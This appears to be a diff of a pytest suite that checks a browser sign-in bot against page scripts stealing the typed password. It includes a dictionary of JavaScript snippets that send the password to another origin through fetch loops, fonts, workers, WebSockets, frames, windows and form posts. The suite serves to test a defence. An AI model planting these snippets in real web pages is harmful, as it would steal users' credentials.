@@ -15,6 +15,7 @@ from ipp_bot.errors import IppBotError, PageBroken, SignInNeedsPerson, UsageErro
 from ipp_bot.pages import SignIn
 from ipp_bot.profile.origins import Origins
 from ipp_bot.site import Portal
+from tests.support.variants import short
 
 if TYPE_CHECKING:
     from collections.abc import Callable, Iterator
@@ -42,6 +43,8 @@ class Site:
         self.moved: dict[str, str] = {}
         self.leaked: list[str] = []
         """What came to the other name with the password in it."""
+        self.tried = False
+        """Whether a page's script has got to the point at which it sends something."""
         self.typed: list[str] = []
         """What any page told that was typed into it."""
         site = self
@@ -59,6 +62,7 @@ class Site:
                 secrets = (SECRET, b64encode(SECRET.encode()).decode())
                 if host == "localhost" and any(secret in told for secret in secrets):
                     site.leaked.append(self.path)
+                site.tried = site.tried or self.path == "/tried"
                 if self.path.startswith("/typed"):
                     site.typed.append(told)
                 path = self.path.partition("?")[0]
@@ -101,11 +105,18 @@ def sign_in(
 ) -> Callable[..., str]:
     """Signs in at the site; the complainant."""
 
-    def call(origins: Origins | None = None, before: Callable[[Any], Any] | None = None) -> str:
+    def call(
+        origins: Origins | None = None,
+        before: Callable[[Any], Any] | None = None,
+        patience: float = 8,
+    ) -> str:
+        timings = profile.timings.model_copy(update={"navigation": patience})
+
         async def story() -> str:
             pool = await host.page_pool("credentials", None)
             async with pool.tab("credentials") as tab:
-                portal = Portal(profile, site.own, origins)
+                known = profile.model_copy(update={"timings": timings})
+                portal = Portal(known, site.own, origins)
                 page = await SignIn.open(tab, portal)
                 if before is not None:
                     await before(tab)
@@ -194,11 +205,10 @@ SENDING = {
     " {src: bearing}))",
     "a style sheet": "document.head.append(Object.assign(document.createElement('link'),"
     " {rel: 'stylesheet', href: bearing}))",
-    "a prefetched page": "document.head.append(Object.assign(document.createElement('link'),"
-    " {rel: 'prefetch', href: bearing}))",
     "a font": "document.fonts.add(new FontFace('a', `url(${bearing})`));"
     " document.fonts.load('1px a')",
     "server-sent events": "new EventSource(bearing)",
+    "again and again": "setInterval(() => fetch(bearing, {mode: 'no-cors'}), 50)",
     "a frame": "document.body.append(Object.assign(document.createElement('iframe'),"
     " {src: bearing}))",
     "a form in a frame": "document.body.insertAdjacentHTML('beforeend',"
@@ -207,34 +217,55 @@ SENDING = {
     "going there": "location.href = bearing",
     "a worker": "const code = `fetch('${bearing}', {mode: 'no-cors'})`;"
     " new Worker(URL.createObjectURL(new Blob([code])))",
-    "a shared worker": "const code = `fetch('${bearing}', {mode: 'no-cors'})`;"
-    " new SharedWorker(URL.createObjectURL(new Blob([code])))",
-    "a web socket": "new WebSocket(bearing.replace('http', 'ws'))",
-    "a window": "window.open(bearing)",
-    "a form in a window": "document.body.insertAdjacentHTML('beforeend',"
-    " `<form id=g method=post target=_blank action=${other}><input name=a></form>`);"
-    " const g = document.getElementById('g'); g.a.value = secret; g.submit()",
     "a frame of another origin": "const f = document.createElement('iframe');"
     " f.src = other.replace('caught', 'told');"
     " f.onload = () => f.contentWindow.postMessage(secret, '*'); document.body.append(f)",
 }
 """Ways in which a page of the portal itself may send what was typed to somebody else."""
+PAST = {
+    "a prefetched page": "document.head.append(Object.assign(document.createElement('link'),"
+    " {rel: 'prefetch', href: bearing}))",
+    "a web socket": "new WebSocket(bearing.replace('http', 'ws'))",
+    "a window": "window.open(bearing)",
+    "a form in a window": "document.body.insertAdjacentHTML('beforeend',"
+    " `<form id=g method=post target=_blank action=${other}><input name=a></form>`);"
+    " const g = document.getElementById('g'); g.a.value = secret; g.submit()",
+}
+"""Ways that the browser lets nobody hold up: they are told."""
 TOLD = """<!doctype html><script>onmessage = e =>
   fetch('/caught', {method: 'POST', body: e.data})</script>"""
 
 
-@pytest.mark.parametrize("way", [*SENDING])
+@pytest.mark.parametrize("way", short(SENDING, 4))
 def test_a_script_that_sends_it_elsewhere_is_stopped(
     site: Site, sign_in: Callable[..., str], way: str
 ) -> None:
     script = f"const other = '{site.other}/caught'; document.forms[0].onsubmit = () => {{"
-    script += "const secret = document.forms[0].secret.value,"
+    script += "fetch('/tried'); const secret = document.forms[0].secret.value,"
     script += f"bearing = other + '?' + encodeURIComponent(secret); {SENDING[way]}; return false }}"
     site.pages["/"] = FORM.format(action="/enter", script=script)
     site.pages["/told"] = TOLD
     with pytest.raises(IppBotError):
-        sign_in()
+        sign_in(patience=3)
+    assert site.tried
     assert site.leaked == []
+
+
+@pytest.mark.parametrize(
+    ("way", "returns"), short([(way, returns) for returns in ("true", "false") for way in PAST], 4)
+)
+def test_a_script_that_sends_it_past_the_fence_is_told(
+    site: Site, sign_in: Callable[..., str], way: str, returns: str
+) -> None:
+    script = f"const other = '{site.other}/caught'; document.forms[0].onsubmit = () => {{"
+    script += "fetch('/tried'); const secret = document.forms[0].secret.value,"
+    script += f"bearing = other + '?' + encodeURIComponent(secret); {PAST[way]};"
+    site.pages["/"] = FORM.format(action="/enter", script=f"{script} return {returns} }}")
+    with pytest.raises(UsageError, match="has sent the password") as caught:
+        sign_in(patience=3)
+    assert site.other in caught.value.message
+    assert "change the password" in str(caught.value.hint)
+    assert SECRET not in str(caught.value)
 
 
 NOT_TYPED = {
@@ -259,14 +290,14 @@ NOT_TYPED = {
 """Pages at which nothing is typed at all."""
 
 
-@pytest.mark.parametrize("page", [*NOT_TYPED])
+@pytest.mark.parametrize("page", short(NOT_TYPED, 4))
 def test_nothing_is_typed_where_the_origin_is_not_named(
     site: Site, sign_in: Callable[..., str], page: str
 ) -> None:
     site.pages["/"] = NOT_TYPED[page].replace("{other}", site.other)
     site.pages["/form"] = FORM.format(action=f"{site.other}/caught", script=TELLS)
     with pytest.raises(IppBotError):
-        sign_in()
+        sign_in(patience=3)
     assert site.leaked == []
     assert site.typed == []
 
